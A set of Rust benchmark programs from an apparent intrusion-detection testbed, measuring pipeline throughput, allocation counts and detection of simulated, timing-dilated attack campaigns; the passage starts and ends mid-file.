        "workload": {
            "records": n,
            "sessions": sessions,
            "scale": scale,
            "seed": tb_cfg.seed,
        },
        "cores": cores,
        "intern": {
            "hot_keys": KEYS,
            "hit_ns_per_op": hit_ns,
            "resolve_ns_per_op": resolve_ns,
            "append_ns_per_op": append_ns,
            "threads": THREADS,
            "single_thread_mops": single_ops / 1e6,
            "multi_thread_mops": multi_ops / 1e6,
            "scaling": scaling,
        },
        "pipeline": {
            "inline_seconds": inline_s,
            "service_seconds": service_s,
            "detections": inline.stats.detections,
        },
        "detections_byte_identical": true,
        "acceptance": {
            // Lock-free hit path: 8 threads on one table must beat one
            // thread by 2x where there are cores to scale onto. A lock
            // would cap this at ~1x (or worse, with contention).
            "scaling_target": 2.0,
            "requires_cores": 4,
            "applicable": cores >= 4,
            "pass": cores < 4 || scaling >= 2.0,
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_10.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_10.json");
    println!("[artifact] {out}");

    // Core-aware wall-clock gate, mirroring BENCH_2/3: only enforceable
    // where the threads can actually run in parallel.
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && cores >= 4 {
        assert!(
            scaling >= 2.0,
            "shared-table hit path must scale >= 2x with {THREADS} threads on this host \
             (got {scaling:.2}x on {cores} cores)"
        );
    } else if scaling < 2.0 {
        println!(
            "NOTE: {THREADS}-thread scaling {scaling:.2}x below the 2x target — not enforced ({})",
            if cores < 4 {
                format!("host has {cores} core(s); the target presumes >= 4")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
