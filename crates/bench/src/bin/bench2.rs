//! BENCH_2 — pipeline executor throughput: sequential vs threaded vs
//! sharded over the identical assembled stage chain.
//!
//! The workload is a `scenario::stream` mixed record stream (scan floods
//! collapsed by the filter, benign flows, Zipf-skewed per-user command
//! sessions driving the per-entity detectors). Every executor runs the
//! exact same pipeline on the exact same records; the harness verifies
//! the detection sets are **byte-identical** (serialized notification
//! streams compared as strings) before reporting speedups.
//!
//! Emits `BENCH_2.json` (at the workspace root, or `$BENCH_OUT`).
//! Acceptance (enforced unless `BENCH_ENFORCE=0`): the sharded executor
//! reaches ≥ 2× the sequential throughput on a ≥ 4-core host.
//!
//! Run with: `cargo run --release -p bench --bin bench2`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2).

use std::time::Instant;

use bench::detection_bytes;
use scenario::stream::{record_stream, RecordStreamConfig};
use simnet::rng::SimRng;
use telemetry::record::LogRecord;
use testbed::stage::{PipelineBuilder, StreamReport};

fn pipeline(shards: usize) -> PipelineBuilder {
    PipelineBuilder::new()
        .tagger(detect::AttackTagger::new(
            bench::standard_model(),
            detect::TaggerConfig::default(),
        ))
        .block_on_detection(true, None)
        .detect_shards(shards)
        .alert_retention(1_000)
}

fn timed<F: FnOnce() -> StreamReport>(f: F) -> (StreamReport, f64) {
    let t0 = Instant::now();
    let report = f();
    (report, t0.elapsed().as_secs_f64())
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    let cfg = RecordStreamConfig {
        scan_records: (150_000.0 * scale) as usize,
        benign_flows: (60_000.0 * scale) as usize,
        exec_records: (300_000.0 * scale) as usize,
        users: 4_000,
        ..RecordStreamConfig::default()
    };
    bench::banner("BENCH_2: pipeline executor throughput");
    let records: Vec<LogRecord> = record_stream(&cfg, &mut SimRng::seed(0x5EC2));
    let n = records.len();
    let cores = rayon::current_num_threads();
    let shards = cores.max(1);
    println!(
        "workload: {n} records, {} users, {cores} cores, {shards} detect shards",
        cfg.users
    );

    // Warm the rayon pool and page in the workload once.
    let _ = pipeline(shards).build().run_inline(records.clone());

    let (seq, seq_s) = timed(|| pipeline(shards).build().run_inline(records.clone()));
    let (thr, thr_s) = timed(|| pipeline(shards).build().run_threaded(records.clone()));
    let (shd, shd_s) = timed(|| pipeline(shards).build().run_sharded(records.clone()));

    let seq_bytes = detection_bytes(&seq);
    assert_eq!(
        seq_bytes,
        detection_bytes(&thr),
        "threaded detections must be byte-identical to sequential"
    );
    assert_eq!(
        seq_bytes,
        detection_bytes(&shd),
        "sharded detections must be byte-identical to sequential"
    );
    assert_eq!(seq.stats, thr.stats);
    assert_eq!(seq.stats, shd.stats);

    let rate = |s: f64| n as f64 / s;
    let threaded_speedup = seq_s / thr_s;
    let sharded_speedup = seq_s / shd_s;
    println!(
        "  stats: {} alerts, {} admitted, {} detections, {} blocked sources",
        seq.stats.alerts, seq.stats.admitted, seq.stats.detections, seq.blocked_sources
    );
    println!("  sequential : {seq_s:8.3}s  {:>12.0} rec/s", rate(seq_s));
    println!(
        "  threaded   : {thr_s:8.3}s  {:>12.0} rec/s  ({threaded_speedup:.2}x)",
        rate(thr_s)
    );
    println!(
        "  sharded    : {shd_s:8.3}s  {:>12.0} rec/s  ({sharded_speedup:.2}x)",
        rate(shd_s)
    );

    let artifact = serde_json::json!({
        "workload": {
            "records": n,
            "scan_records": cfg.scan_records,
            "benign_flows": cfg.benign_flows,
            "exec_records": cfg.exec_records,
            "users": cfg.users,
            "scale": scale,
        },
        "cores": cores,
        "detect_shards": shards,
        "stats": {
            "alerts": seq.stats.alerts,
            "admitted": seq.stats.admitted,
            "detections": seq.stats.detections,
            "blocked_sources": seq.blocked_sources,
        },
        "sequential": { "seconds": seq_s, "records_per_sec": rate(seq_s) },
        "threaded": { "seconds": thr_s, "records_per_sec": rate(thr_s), "speedup": threaded_speedup },
        "sharded": { "seconds": shd_s, "records_per_sec": rate(shd_s), "speedup": sharded_speedup },
        "detections_byte_identical": true,
        "acceptance": {
            "sharded_speedup_target": 2.0,
            // The 2x target presumes stage overlap + shard parallelism,
            // i.e. a >= 4-core host; below that the executors can only
            // add overhead over sequential.
            "requires_cores": 4,
            "applicable": cores >= 4,
            "pass": cores < 4 || sharded_speedup >= 2.0,
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_2.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_2.json");
    println!("\n[artifact] {out}");

    // Threshold enforcement is opt-out (`BENCH_ENFORCE=0`): shared CI
    // runners have enough timing variance (and too few cores) to fail the
    // gate spuriously, so CI records the artifact and only local or
    // dedicated ≥4-core runs enforce.
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && cores >= 4 {
        assert!(
            sharded_speedup >= 2.0,
            "sharded executor must be >= 2x sequential on this host (got {sharded_speedup:.2}x on {cores} cores)"
        );
    } else if sharded_speedup < 2.0 {
        println!(
            "NOTE: sharded speedup {sharded_speedup:.2}x below the 2x target — \
             not enforced ({})",
            if cores < 4 {
                format!("host has {cores} core(s); the target presumes >= 4")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
