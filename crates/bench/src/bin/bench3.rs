//! BENCH_3 — adversarial campaign throughput + preemption evaluation.
//!
//! The workload is a `scenario::mutate` campaign: hundreds of concurrent
//! mutated attack sessions (step drops, same-rank reorders, cover
//! interleave, low-and-slow dilation, decoys, lateral hops) multiplexed
//! with a `scenario::stream` background load of over a million records.
//! The campaign runs on the inline and sharded executors; the harness
//! asserts the two detection streams are **byte-identical**, then scores
//! the run against ground truth with `testbed::eval`: per-family
//! preemption rate, lead-time distribution (seconds and attack-step
//! records), and FP rate per million background records.
//!
//! Emits `BENCH_3.json` (at the workspace root, or `$BENCH_OUT`).
//! Run with: `cargo run --release -p bench --bin bench3`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2).

use std::time::Instant;

use bench::detection_bytes;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

fn pipeline(cfg: &TestbedConfig) -> PipelineBuilder {
    PipelineBuilder::from_config(cfg, bench::standard_model()).alert_retention(1_000)
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_3: adversarial campaign engine + preemption evaluation");

    let sessions = ((240.0 * scale) as usize).max(16);
    let campaign_cfg = CampaignConfig {
        sessions,
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig {
            dilation: 2.0,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            // Mostly-benign background: the FP-per-million denominator
            // should measure false alarms, not planted suspicious load.
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    let tb_cfg = TestbedConfig::default();

    let t0 = Instant::now();
    let mut campaign = generate_campaign(&campaign_cfg, &mut SimRng::seed(tb_cfg.seed));
    let gen_s = t0.elapsed().as_secs_f64();
    let n = campaign.records.len();
    let cores = rayon::current_num_threads();
    println!(
        "workload: {n} records, {} sessions ({} attack / {} decoy), {} background, {cores} cores",
        campaign.truth.sessions.len(),
        campaign.truth.sessions.iter().filter(|s| !s.decoy).count(),
        campaign.truth.sessions.iter().filter(|s| s.decoy).count(),
        campaign.truth.background_records,
    );

    // Warm the rayon pool and page the workload in once.
    let _ = pipeline(&tb_cfg)
        .build()
        .run_inline(campaign.records.clone());

    // Clones and pipeline assembly stay outside the timed windows; the
    // final run consumes the campaign records.
    let records = campaign.records.clone();
    let built = pipeline(&tb_cfg).build();
    let t0 = Instant::now();
    let inline = built.run_inline(records);
    let inline_s = t0.elapsed().as_secs_f64();
    let built = pipeline(&tb_cfg).build();
    let records = std::mem::take(&mut campaign.records);
    let t0 = Instant::now();
    let sharded = built.run_sharded(records);
    let sharded_s = t0.elapsed().as_secs_f64();

    assert_eq!(
        detection_bytes(&inline),
        detection_bytes(&sharded),
        "sharded campaign detections must be byte-identical to inline"
    );
    assert_eq!(inline.stats, sharded.stats);

    let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
    let rate = |s: f64| n as f64 / s;
    let speedup = inline_s / sharded_s;
    println!(
        "  stats: {} alerts, {} admitted, {} detections",
        inline.stats.alerts, inline.stats.admitted, inline.stats.detections
    );
    println!("  generate : {gen_s:8.3}s");
    println!(
        "  inline   : {inline_s:8.3}s  {:>12.0} rec/s",
        rate(inline_s)
    );
    println!(
        "  sharded  : {sharded_s:8.3}s  {:>12.0} rec/s  ({speedup:.2}x)",
        rate(sharded_s)
    );
    println!("\n{}", eval.table());

    let artifact = serde_json::json!({
        "workload": {
            "records": n,
            "sessions": sessions,
            "background_records": campaign.truth.background_records,
            "dilation": campaign_cfg.mutation.dilation,
            "scale": scale,
            "seed": tb_cfg.seed,
        },
        "cores": cores,
        "generate": { "seconds": gen_s },
        "inline": { "seconds": inline_s, "records_per_sec": rate(inline_s) },
        "sharded": { "seconds": sharded_s, "records_per_sec": rate(sharded_s), "speedup": speedup },
        "detections_byte_identical": true,
        "eval": eval.to_json(),
        "acceptance": {
            "sharded_speedup_target": 1.2,
            // Campaign runs are filter-dominated, so the sharded win is
            // smaller than BENCH_2's pure-pipeline 2x; like BENCH_2 the
            // wall-clock gate presumes real parallelism (>= 4 cores) and
            // is recorded informationally below that.
            "requires_cores": 4,
            "applicable": cores >= 4,
            "pass": cores < 4 || speedup >= 1.2,
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_3.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_3.json");
    println!("[artifact] {out}");

    // Sanity gates that hold at any scale (detection quality, not timing —
    // timing gates live in bench2 and are host-dependent).
    assert_eq!(
        eval.families.len(),
        8,
        "preemption table must cover all eight families"
    );
    assert!(
        eval.overall.detected > eval.attack_sessions / 2,
        "majority of mutated sessions detected ({}/{})",
        eval.overall.detected,
        eval.attack_sessions
    );
    assert!(eval.overall.preempted > 0, "preemptions observed");

    // Wall-clock gate, core-aware like BENCH_2's: only enforceable where
    // the sharded executor can actually parallelize.
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && cores >= 4 {
        assert!(
            speedup >= 1.2,
            "sharded campaign run must be >= 1.2x inline on this host \
             (got {speedup:.2}x on {cores} cores)"
        );
    } else if speedup < 1.2 {
        println!(
            "NOTE: sharded speedup {speedup:.2}x below the 1.2x target — not enforced ({})",
            if cores < 4 {
                format!("host has {cores} core(s); the target presumes >= 4")
            } else {
                "BENCH_ENFORCE=0".to_string()
            }
        );
    }
}
