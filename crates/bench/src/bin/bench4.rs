//! BENCH_4 — interned-symbol zero-allocation hot path.
//!
//! Replays the exact BENCH_3 campaign workload (same config, same
//! `TestbedConfig::seed`) through the rebuilt symbolize → filter → detect
//! pipeline and measures what the interning refactor bought:
//!
//! - **throughput** — inline records/s against the frozen PR-3 baseline
//!   (`BENCH_3.json` at the time the interning PR landed);
//! - **generation** — campaign generation wall-clock against the same
//!   baseline (the pre-interning generator `format!`ed four strings per
//!   process record and was slower than the pipeline consuming it);
//! - **allocations** — heap allocations per record, counted by a global
//!   counting allocator: once over the full timed inline run, and once in
//!   a steady-state replay (same records, warmed pipeline state) where the
//!   symbolize → filter → observe path is expected to allocate (almost)
//!   nothing;
//! - **identity** — inline and sharded detection streams must stay
//!   byte-identical (`detections_byte_identical`), the same differential
//!   witness BENCH_2/BENCH_3 assert.
//!
//! Emits `BENCH_4.json` (at the workspace root, or `$BENCH_OUT`).
//! Acceptance (enforced unless `BENCH_ENFORCE=0`): ≥ 1.5× the baseline
//! inline records/s at full scale, steady-state allocations/record < 0.05,
//! and byte-identical detections at every scale.
//!
//! Run with: `cargo run --release -p bench --bin bench4`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2).

use std::time::Instant;

use bench::detection_bytes;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Frozen PR-3 baseline (BENCH_3.json on this container before the
/// interning refactor): the numbers BENCH_4's speedups are measured
/// against. Throughput gates only apply at full scale on comparable
/// hardware; CI records them informationally (`BENCH_ENFORCE=0`).
const BASELINE_INLINE_RECORDS_PER_SEC: f64 = 1_558_961.67;
const BASELINE_GENERATE_SECONDS: f64 = 1.670_284_123;

fn pipeline(cfg: &TestbedConfig) -> PipelineBuilder {
    PipelineBuilder::from_config(cfg, bench::standard_model()).alert_retention(1_000)
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_4: interned-symbol zero-allocation hot path");

    // The exact BENCH_3 workload: same sessions, same background, same
    // top-level seed.
    let sessions = ((240.0 * scale) as usize).max(16);
    let campaign_cfg = CampaignConfig {
        sessions,
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig {
            dilation: 2.0,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    let tb_cfg = TestbedConfig::default();
    let cores = rayon::current_num_threads();

    let t0 = Instant::now();
    let campaign = generate_campaign(&campaign_cfg, &mut SimRng::seed(tb_cfg.seed));
    let gen_s = t0.elapsed().as_secs_f64();
    let n = campaign.records.len();
    println!(
        "workload: {n} records, {} sessions, {} background, {cores} cores, seed {}",
        campaign.truth.sessions.len(),
        campaign.truth.background_records,
        tb_cfg.seed,
    );

    // Warm the rayon pool, the symbol table and the memo caches once.
    let _ = pipeline(&tb_cfg)
        .build()
        .run_inline(campaign.records.clone());

    // Timed inline run with allocation counting. The clone feeding it is
    // made outside the window; per-record heap cost inside is what the
    // interning refactor is accountable for (pipeline state build-up,
    // batching buffers, notifications).
    let records = campaign.records.clone();
    let built = pipeline(&tb_cfg).build();
    let t0 = Instant::now();
    let (inline_allocs, inline) = allocations(|| built.run_inline(records));
    let inline_s = t0.elapsed().as_secs_f64();

    let records = campaign.records.clone();
    let built = pipeline(&tb_cfg).build();
    let t0 = Instant::now();
    let sharded = built.run_sharded(records);
    let sharded_s = t0.elapsed().as_secs_f64();

    assert_eq!(
        detection_bytes(&inline),
        detection_bytes(&sharded),
        "sharded campaign detections must be byte-identical to inline"
    );
    assert_eq!(inline.stats, sharded.stats);
    let eval = testbed::evaluate_campaign(&inline, &campaign.truth);

    // Steady-state allocations through symbolize → filter → observe:
    // drive the bare components over the full record stream twice — the
    // first pass builds per-entity/window/memo state, the second is the
    // warmed hot path the zero-allocation contract covers.
    let mut sym = alertlib::Symbolizer::new(tb_cfg.symbolizer.clone());
    let mut filt = alertlib::ScanFilter::new(tb_cfg.filter.clone());
    let mut tagger = detect::AttackTagger::new(bench::standard_model(), tb_cfg.tagger.clone());
    let mut alerts = Vec::with_capacity(64);
    let mut warm_detections = 0u64;
    for r in &campaign.records {
        alerts.clear();
        sym.symbolize_into(r, &mut alerts);
        for a in &alerts {
            if filt.admit(a) && tagger.observe(a).is_some() {
                warm_detections += 1;
            }
        }
    }
    let (steady_allocs, _) = allocations(|| {
        let mut d = 0u64;
        for r in &campaign.records {
            alerts.clear();
            sym.symbolize_into(r, &mut alerts);
            for a in &alerts {
                if filt.admit(a) && tagger.observe(a).is_some() {
                    d += 1;
                }
            }
        }
        d
    });
    assert!(
        warm_detections > 0,
        "sanity: the warmup pass must actually detect sessions"
    );

    let rate = |s: f64| n as f64 / s;
    let inline_rps = rate(inline_s);
    let speedup_vs_baseline = inline_rps / BASELINE_INLINE_RECORDS_PER_SEC;
    let generate_delta_s = gen_s - BASELINE_GENERATE_SECONDS;
    let inline_allocs_per_record = inline_allocs as f64 / n as f64;
    let steady_allocs_per_record = steady_allocs as f64 / n as f64;
    let sharded_speedup = inline_s / sharded_s;

    println!(
        "  stats: {} alerts, {} admitted, {} detections",
        inline.stats.alerts, inline.stats.admitted, inline.stats.detections
    );
    println!(
        "  generate : {gen_s:8.3}s  (baseline {BASELINE_GENERATE_SECONDS:.3}s, delta {generate_delta_s:+.3}s)"
    );
    println!(
        "  inline   : {inline_s:8.3}s  {inline_rps:>12.0} rec/s  ({speedup_vs_baseline:.2}x vs PR-3 baseline)"
    );
    println!(
        "  sharded  : {sharded_s:8.3}s  {:>12.0} rec/s  ({sharded_speedup:.2}x)",
        rate(sharded_s)
    );
    println!(
        "  allocs   : {inline_allocs_per_record:.4}/record full inline run, {steady_allocs_per_record:.6}/record steady-state symbolize→filter→observe"
    );

    let full_scale = (scale - 1.0).abs() < 1e-9;
    let artifact = serde_json::json!({
        "workload": {
            "records": n,
            "sessions": sessions,
            "background_records": campaign.truth.background_records,
            "dilation": campaign_cfg.mutation.dilation,
            "scale": scale,
            "seed": tb_cfg.seed,
        },
        "cores": cores,
        "baseline": {
            "source": "BENCH_3.json @ PR 3 (pre-interning)",
            "inline_records_per_sec": BASELINE_INLINE_RECORDS_PER_SEC,
            "generate_seconds": BASELINE_GENERATE_SECONDS,
        },
        "generate": {
            "seconds": gen_s,
            "baseline_delta_seconds": generate_delta_s,
        },
        "inline": {
            "seconds": inline_s,
            "records_per_sec": inline_rps,
            "speedup_vs_baseline": speedup_vs_baseline,
            "allocations": inline_allocs,
            "allocations_per_record": inline_allocs_per_record,
        },
        "sharded": {
            "seconds": sharded_s,
            "records_per_sec": rate(sharded_s),
            "speedup": sharded_speedup,
        },
        "steady_state": {
            "allocations": steady_allocs,
            "allocations_per_record": steady_allocs_per_record,
        },
        "detections_byte_identical": true,
        "eval": eval.to_json(),
        "acceptance": {
            "inline_speedup_target": 1.5,
            // Cross-build wall-clock comparisons only mean something at
            // the baseline's scale; scaled-down CI runs record the
            // numbers without applying the throughput gate.
            "applicable": full_scale,
            "pass": !full_scale
                || (speedup_vs_baseline >= 1.5 && steady_allocs_per_record < 0.05),
            "steady_state_allocs_per_record_limit": 0.05,
        },
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_4.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_4.json");
    println!("[artifact] {out}");

    // Gates. The allocation contract is scale-independent and always
    // enforced; the throughput gate compares against the frozen full-scale
    // baseline, so it applies at BENCH_SCALE=1 (and can be opted out on
    // noisy shared runners with BENCH_ENFORCE=0, like BENCH_1/2).
    assert!(
        steady_allocs_per_record < 0.05,
        "steady-state symbolize→filter→observe must allocate < 0.05/record \
         (got {steady_allocs_per_record:.4})"
    );
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce && full_scale {
        assert!(
            speedup_vs_baseline >= 1.5,
            "inline throughput must be >= 1.5x the PR-3 baseline \
             (got {speedup_vs_baseline:.2}x = {inline_rps:.0} rec/s)"
        );
    } else if speedup_vs_baseline < 1.5 {
        println!(
            "NOTE: inline speedup {speedup_vs_baseline:.2}x below the 1.5x target — not \
             enforced ({})",
            if full_scale {
                "BENCH_ENFORCE=0".to_string()
            } else {
                format!("scaled run (BENCH_SCALE={scale})")
            }
        );
    }
}
