//! BENCH_5 — temporal evasion hardening: detection vs timing dilation.
//!
//! PR 3's adversarial harness exposed the order-only chain model's blind
//! spot: timing dilation (low-and-slow evasion) drove the short-signature
//! families (sqli-webapp, data-exfil) to 0–50% preemption, because the
//! tagger saw alert *order* but never the *gaps*. This bench sweeps the
//! same seed-2809840877 campaign (the BENCH_3 workload) across
//! 1x/2x/4x/8x/16x dilation with the temporal detector — quantized
//! inter-alert-gap observation factors, cover-aware emission training,
//! per-entity evidence decay and session timeout — and gates on the
//! recovery:
//!
//! - **Recovery gate** — sqli-webapp and data-exfil preemption ≥ 70% at
//!   8x dilation (up from 0–50%).
//! - **FP budget gate** — FP-per-million at 8x within 1.5x of the 2x
//!   (BENCH_3-configuration) reference point of the same sweep.
//! - **Invariants** — inline and sharded detections byte-identical at
//!   every dilation, and the warmed symbolize → filter → observe path
//!   still allocation-free (< 0.05 allocs/record) with the new features.
//!
//! Emits `BENCH_5.json` (at the workspace root, or `$BENCH_OUT`).
//! Run with: `cargo run --release -p bench --bin bench5`
//! Scale the workload with `BENCH_SCALE` (default 1.0; CI uses 0.2 —
//! the quality gates are asserted at full scale, recorded otherwise).

use std::time::Instant;

use bench::detection_bytes;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use testbed::stage::PipelineBuilder;
use testbed::TestbedConfig;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

const DILATIONS: [f64; 5] = [1.0, 2.0, 4.0, 8.0, 16.0];
/// The sweep point the recovery gate reads.
const GATE_DILATION: f64 = 8.0;
/// The BENCH_3-configuration reference point for the FP budget.
const REFERENCE_DILATION: f64 = 2.0;
const RECOVERY_FAMILIES: [&str; 2] = ["sqli-webapp", "data-exfil"];
const RECOVERY_TARGET: f64 = 0.70;
const FP_BUDGET_RATIO: f64 = 1.5;
const ALLOC_GATE_PER_RECORD: f64 = 0.05;

fn campaign_cfg(scale: f64, dilation: f64) -> CampaignConfig {
    CampaignConfig {
        sessions: ((240.0 * scale) as usize).max(16),
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig {
            dilation,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    }
}

fn pipeline(cfg: &TestbedConfig, model: factorgraph::chain::ChainModel) -> PipelineBuilder {
    PipelineBuilder::from_config(cfg, model).alert_retention(1_000)
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_5: temporal evasion hardening — detection vs dilation");

    let tb_cfg = TestbedConfig::default();
    let cores = rayon::current_num_threads();
    let model = bench::standard_model();
    assert!(
        model.gap_model().is_some(),
        "the standard model must carry gap observation tables"
    );

    let mut points = Vec::new();
    let family_rate_at = |eval: &testbed::EvalReport, fam: &str| -> f64 {
        eval.families
            .iter()
            .find(|f| f.family == fam)
            .map(|f| f.preemption_rate)
            .unwrap_or(0.0)
    };
    let mut fp_at_reference = f64::NAN;
    let mut gate_eval: Option<testbed::EvalReport> = None;
    let mut steady_allocs_per_record = f64::NAN;

    println!(
        "{:<9} {:>9} {:>10} {:>10} {:>10} {:>9} {:>9} {:>12}",
        "dilation", "records", "sqli", "data-exfil", "overall", "fp/M", "inline-s", "mean-gap(s)"
    );
    for dilation in DILATIONS {
        let mut campaign = generate_campaign(
            &campaign_cfg(scale, dilation),
            &mut SimRng::seed(tb_cfg.seed),
        );
        let n = campaign.records.len();

        // Inline (timed) and sharded runs over the same records; the
        // detection streams must be byte-identical.
        let records = campaign.records.clone();
        let built = pipeline(&tb_cfg, model.clone()).build();
        let t0 = Instant::now();
        let inline = built.run_inline(records);
        let inline_s = t0.elapsed().as_secs_f64();
        let built = pipeline(&tb_cfg, model.clone()).build();
        let records = campaign.records.clone();
        let sharded = built.run_sharded(records);
        assert_eq!(
            detection_bytes(&inline),
            detection_bytes(&sharded),
            "dilation {dilation}: sharded detections must be byte-identical to inline"
        );
        assert_eq!(inline.stats, sharded.stats);

        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        assert_eq!(eval.dilation, dilation, "eval reports its dilation");

        if dilation == REFERENCE_DILATION {
            fp_at_reference = eval.fp_per_million_background;
        }
        if dilation == GATE_DILATION {
            // Steady-state allocation check on the gate point: warm the
            // bare hot path once, then count a full second pass.
            let mut sym = alertlib::Symbolizer::new(tb_cfg.symbolizer.clone());
            let mut filt = alertlib::ScanFilter::new(tb_cfg.filter.clone());
            let mut tagger = detect::AttackTagger::new(model.clone(), tb_cfg.tagger.clone());
            let mut alerts = Vec::with_capacity(64);
            for r in &campaign.records {
                alerts.clear();
                sym.symbolize_into(r, &mut alerts);
                for a in &alerts {
                    if filt.admit(a) {
                        tagger.observe(a);
                    }
                }
            }
            let (steady_allocs, _) = allocations(|| {
                let mut d = 0u64;
                for r in &campaign.records {
                    alerts.clear();
                    sym.symbolize_into(r, &mut alerts);
                    for a in &alerts {
                        if filt.admit(a) && tagger.observe(a).is_some() {
                            d += 1;
                        }
                    }
                }
                d
            });
            steady_allocs_per_record = steady_allocs as f64 / n as f64;
            gate_eval = Some(eval.clone());
        }

        println!(
            "{:<9} {:>9} {:>9.1}% {:>9.1}% {:>9.1}% {:>9.1} {:>9.3} {:>12.0}",
            dilation,
            n,
            family_rate_at(&eval, "sqli-webapp") * 100.0,
            family_rate_at(&eval, "data-exfil") * 100.0,
            eval.overall.preemption_rate * 100.0,
            eval.fp_per_million_background,
            inline_s,
            eval.overall.mean_step_gap_secs,
        );
        campaign.records.clear();
        points.push(serde_json::json!({
            "dilation": dilation,
            "records": n,
            "inline_seconds": inline_s,
            "detections_byte_identical": true,
            "eval": eval.to_json(),
        }));
    }

    let gate_eval = gate_eval.expect("sweep covers the gate dilation");
    let sqli = family_rate_at(&gate_eval, RECOVERY_FAMILIES[0]);
    let exfil = family_rate_at(&gate_eval, RECOVERY_FAMILIES[1]);
    let fp_at_gate = gate_eval.fp_per_million_background;
    let fp_ratio = if fp_at_reference > 0.0 {
        fp_at_gate / fp_at_reference
    } else if fp_at_gate == 0.0 {
        1.0
    } else {
        f64::INFINITY
    };
    let recovery_pass = sqli >= RECOVERY_TARGET && exfil >= RECOVERY_TARGET;
    let fp_pass = fp_ratio <= FP_BUDGET_RATIO;
    let alloc_pass = steady_allocs_per_record < ALLOC_GATE_PER_RECORD;

    println!(
        "\n8x recovery: sqli-webapp {:.1}% / data-exfil {:.1}% (target >= {:.0}%) -> {}",
        sqli * 100.0,
        exfil * 100.0,
        RECOVERY_TARGET * 100.0,
        if recovery_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "fp budget  : {fp_at_gate:.1}/M at 8x vs {fp_at_reference:.1}/M at 2x ({fp_ratio:.2}x, limit {FP_BUDGET_RATIO}x) -> {}",
        if fp_pass { "PASS" } else { "FAIL" },
    );
    println!(
        "allocations: {steady_allocs_per_record:.6}/record steady-state (limit {ALLOC_GATE_PER_RECORD}) -> {}",
        if alloc_pass { "PASS" } else { "FAIL" },
    );

    let artifact = serde_json::json!({
        "workload": {
            "sessions": ((240.0 * scale) as usize).max(16),
            "dilations": DILATIONS.to_vec(),
            "scale": scale,
            "seed": tb_cfg.seed,
        },
        "cores": cores,
        "points": points,
        "detections_byte_identical": true,
        "acceptance": {
            "dilation_recovery": {
                "families": RECOVERY_FAMILIES.to_vec(),
                "at_dilation": GATE_DILATION,
                "target_preemption_rate": RECOVERY_TARGET,
                "sqli_webapp": sqli,
                "data_exfil": exfil,
